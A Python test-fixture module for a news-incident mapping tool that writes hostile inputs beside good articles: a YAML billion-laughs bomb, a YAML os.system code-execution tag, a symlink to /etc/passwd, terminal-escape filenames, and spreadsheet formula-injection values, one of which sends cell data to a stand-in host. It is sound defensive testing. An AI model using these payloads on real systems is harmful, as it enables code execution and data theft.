"""Hostile inputs for the end-to-end tests: what a careless or malicious user may put beside good articles.

Everything is written by the tests into a temporary folder; ``GOOD`` are three short English reports whose
incidents are known, ``hostile_files`` the bad files (each must be skipped with one line) and the odd but
good ones (each must be mapped).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

#: Good articles: file name -> text; each reports one incident at a known place.
GOOD = {
    "good_erbil.txt": (
        "Rockets hit Erbil airport\n\nTwo rockets struck Erbil airport in northern Iraq on Tuesday night, "
        "Kurdish officials said. No casualties were reported, and no group claimed the attack.\n"
    ),
    "good_mosul.txt": (
        "Car bomb in Mosul\n\nA car bomb exploded near a market in Mosul on Friday, killing four people, "
        "police said. The Islamic State group was blamed for the attack.\n"
    ),
    "good_nasiriyah.md": (
        "# Roadside bomb hits convoy near Nasiriyah\n\nA roadside bomb struck a logistics convoy near "
        "Nasiriyah in southern Iraq on Monday, security sources said. The convoy was carrying supplies.\n"
    ),
}
#: The place each good article's incident is at (GeoJSON's "place").
GOOD_PLACES = {
    "good_erbil.txt": "Erbil International Airport",
    "good_mosul.txt": "Mosul",
    "good_nasiriyah.md": "Nasiriyah",
}
#: A French report, good but saved as cp1252 (not UTF-8).
CP1252_TEXT = (
    "Roquettes sur l’aéroport de Bagdad\n\nTrois roquettes se sont abattues jeudi sur l’aéroport de Bagdad, "
    "a indiqué l’armée irakienne. Aucune victime n’a été signalée, selon la même source.\n"
)


def laughs(levels: int = 9, width: int = 9) -> str:
    """YAML "billion laughs" front matter over a good article: 9 levels of 9 aliases by default."""
    lines = ["a0: &a0 [" + ", ".join(["lol"] * width) + "]"]
    lines += [f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * width) + "]" for n in range(1, levels + 1)]
    return "---\n" + "\n".join([*lines, f"title: *a{levels}"]) + "\n---\n" + GOOD["good_mosul.txt"]


def write_good(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in GOOD.items():
        (folder / name).write_text(text, encoding="utf-8")


@dataclass(frozen=True)
class Hostile:
    """The hostile files written: names (as geomap shows them) that must be skipped, those read from their
    text with a warning (their front matter ignored), and those mapped."""

    skipped: tuple[str, ...]
    warned: tuple[str, ...]
    mapped: tuple[str, ...]


def hostile_files(folder: Path) -> Hostile:
    """Write every hostile input of issue 14 into ``folder``, beside the good articles."""
    body = GOOD["good_mosul.txt"].replace("Mosul", "Kirkuk")

    def write(name: str | bytes, data: str | bytes) -> None:
        path = folder / (os.fsdecode(name) if isinstance(name, bytes) else name)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)

    write("laughs.txt", laughs())
    write("deep.md", "---\nx: " + "[" * 5000 + "]" * 5000 + "\n---\n" + body)
    with (folder / "huge.txt").open("wb") as handle:
        handle.truncate(2 * 1024**3)  # 2 GB, sparse: costs no disk
    write("bigfront.txt", "---\ntitle: x\nnotes: " + "v" * 70_000 + "\n---\n" + body)
    write("baddate.txt", "---\npublished: 2021-99-99\n---\n" + body)
    write("bignum.txt", "---\ntitle: " + "9" * 5000 + "\n---\n" + body)
    write("pytag.txt", "---\ntitle: !!python/object/apply:os.system ['touch /tmp/pwned']\n---\n" + body)
    write("utf16nul.txt", ("Titre\n" + "\x00" * 40 + body).encode("utf-16"))
    write(b"x\n\x1b[2J\x1b[31m.txt", b"")  # a name that clears a terminal, on an empty file
    write("zz_dup.txt", GOOD["good_mosul.txt"])  # same bytes as good_mosul.txt, read first (by name)
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    # Metadata never costs the article: these are read from their text, front matter ignored.
    warned = ("laughs.txt", "deep.md", "bigfront.txt", "baddate.txt", "bignum.txt", "pytag.txt")
    skipped = (
        "huge.txt",
        "utf16nul.txt",
        "x\\n\\x1b[2J\\x1b[31m.txt",
        "zz_dup.txt",
        "passwd.txt",
    )
    # Odd but good: mapped, under escaped names where the name is not UTF-8 or holds controls.
    write(b"nom\xff.txt", body.replace("Kirkuk", "Tikrit"))
    write(b"a\nb\x1b[31m.md", "# Attack\n\n" + body.replace("Kirkuk", "Samarra"))
    write("cp1252.txt", CP1252_TEXT.encode("cp1252"))
    write(
        "injection.txt",
        '---\ntitle: "=HYPERLINK(\\"http://evil.example/\\"&A1, \\"x\\")\\0"\n'
        "source: \"+cmd|' /C calc'!A0\"\nurl: '@SUM(1+9)'\n---\n" + body.replace("Kirkuk", "Ramadi"),
    )
    os.mkfifo(folder / "fifo.txt")  # not a regular file: never opened (it would wait for a writer)
    (folder / "folder.txt").mkdir()
    return Hostile(
        skipped=skipped,
        warned=warned,
        mapped=("nom\\xff.txt", "a\\nb\\x1b[31m.md", "cp1252.txt", "injection.txt", *warned),
    )


def features(out: Path) -> list[dict[str, Any]]:
    data = json.loads((out / "incidents.geojson").read_text(encoding="utf-8"))
    return list(data["features"])


def mapped_files(out: Path) -> set[str]:
    """The article files the incidents of a build cite."""
    return {s["file"] for f in features(out) for s in f["properties"]["sources"]}


def places_of(out: Path) -> dict[str, set[str]]:
    """File -> the places its incidents are at."""
    found: dict[str, set[str]] = {}
    for feature in features(out):
        for source in feature["properties"]["sources"]:
            found.setdefault(source["file"], set()).add(feature["properties"]["place"])
    return found


@dataclass(frozen=True)
class Run:
    returncode: int
    stdout: str
    stderr: str
    peak_rss_mb: float


def run_geomap(*args: str, cwd: Path | None = None, env: dict[str, str] | None = None) -> Run:
    """``python -m geomap ARGS`` in a new process; its exit code, output and peak memory (max RSS)."""
    with (
        open(os.devnull, "rb") as stdin,
        _temp_output() as out,
        _temp_output() as err,
    ):
        proc = subprocess.Popen(
            [sys.executable, "-m", "geomap", *args],
            stdin=stdin,
            stdout=out,
            stderr=err,
            cwd=cwd,
            env={**os.environ, **(env or {})},
        )
        # wait4 gives this child's own resource usage: ru_maxrss is its peak resident memory (KiB on Linux).
        _, status, usage = os.wait4(proc.pid, 0)
        proc.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        return Run(
            returncode=proc.returncode,
            stdout=out.read().decode("utf-8", "replace"),
            stderr=err.read().decode("utf-8", "replace"),
            peak_rss_mb=usage.ru_maxrss / 1024,
        )


def _temp_output() -> Any:
    import tempfile

    return tempfile.TemporaryFile()


#: Run a command as an unprivileged user: permissions mean nothing to root, who runs the CI container.
AS_NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] if os.geteuid() == 0 else []


def run_unprivileged(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """``python -m geomap ARGS`` as a user without special rights (``nobody`` when the tests run as root)."""
    return subprocess.run(
        [*AS_NOBODY, sys.executable, "-m", "geomap", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, "HOME": str(cwd), "PYTHONDONTWRITEBYTECODE": "1"},
        timeout=300,
        check=False,
    )


def give_away(*paths: Path) -> None:
    """Make ``paths`` belong to the user of :func:`run_unprivileged` (nothing to do unless root)."""
    if os.geteuid() == 0:
        for path in paths:
            os.chown(path, 65534, 65534, follow_symlinks=False)
